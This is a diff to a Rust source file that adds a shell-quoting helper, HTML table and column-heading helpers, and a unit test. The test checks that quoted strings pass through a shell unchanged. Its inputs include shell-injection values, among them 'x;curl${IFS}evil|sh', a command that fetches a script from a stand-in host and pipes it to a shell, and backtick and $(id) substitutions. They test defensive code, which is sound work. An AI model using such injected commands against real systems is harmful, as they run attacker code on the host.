@@ -87,6 +87,33 @@ pub(crate) fn as_count(length: usize) -> u64 {
     u64::try_from(length).unwrap_or(u64::MAX)
 }
 
+/// A word that a shell takes as this text and nothing else.
+pub(crate) fn shell_quoted(text: &str) -> String {
+    let plain = |letter: char| letter.is_ascii_alphanumeric() || "-_.:/@".contains(letter);
+    if !text.is_empty() && text.chars().all(plain) {
+        return text.to_owned();
+    }
+    format!("'{}'", text.replace('\'', r"'\''"))
+}
+
+/// A table that scrolls by itself where the page is narrow; `class` may be empty.
+pub(crate) fn table(class: &str, caption: &str, columns: &[String], rows: &Markup) -> Markup {
+    html! {
+        div.scroll role="region" aria-label=(caption) tabindex="0" {
+            table class=[Some(class).filter(|class| !class.is_empty())] {
+                caption { (caption) }
+                thead { tr { @for column in columns { th scope="col" { (column) } } } }
+                tbody { (rows) }
+            }
+        }
+    }
+}
+
+/// The headings of columns by their keys.
+pub(crate) fn columns<const N: usize>(r: &Reader, keys: [&str; N]) -> Vec<String> {
+    keys.iter().map(|key| r.t(key)).collect()
+}
+
 /// Labelled figures as a description list, each with its mark.
 pub(crate) fn figures(r: &Reader, list: &[Figure]) -> Markup {
     html! {
@@ -301,5 +328,32 @@ pub(crate) fn freeze_table(r: &Reader, caption: &str, freezes: &[Freeze]) -> Mar
                 }
             }
         }
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::shell_quoted;
+
+    #[test]
+    fn a_shell_takes_a_quoted_word_as_its_text() {
+        for text in [
+            "w-1",
+            "",
+            "x;curl${IFS}evil|sh",
+            "it's `id` $(id)",
+            "'",
+            "a b\\",
+            "김",
+            "*",
+        ] {
+            let script = format!("printf %s {}", shell_quoted(text));
+            let said = std::process::Command::new("sh")
+                .args(["-c", &script])
+                .output()
+                .unwrap();
+            assert_eq!(String::from_utf8(said.stdout).unwrap(), text);
+        }
+        assert_eq!(shell_quoted("enrol-kim.2"), "enrol-kim.2");
     }
 }
